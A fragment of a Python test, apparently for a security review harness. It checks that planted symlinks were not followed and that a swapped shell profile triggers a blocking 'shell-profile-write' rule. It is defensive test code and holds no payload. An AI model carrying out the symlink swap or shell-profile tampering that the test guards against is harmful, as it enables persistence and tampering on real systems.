    review = runs.get("symlinks").review
    # Root followed none of them: the canary and the installed harness are unchanged.
    assert canary.now() == canary.before
    install = review.report("install")
    (command,) = install["commands"]
    assert "planted" in command["stdout_tail"], command
    assert int(command["stdout_tail"].split("planted")[1].split()[0]) > 20, command
    # The swapped profile is seen for what it is, and nothing fell over.
    assert review.verdict["state"] == "blocked", str(review)
    assert critical_rules(review) == {"shell-profile-write"}, review.verdict["findings"]
    for check in CHECK_NAMES:
        kinds = {o["kind"] for o in review.report(check)["observations"]}
        assert "harness_error" not in kinds, (check, kinds)
        assert not review.report(check)["summary"].startswith(f"the {check} check failed"), check
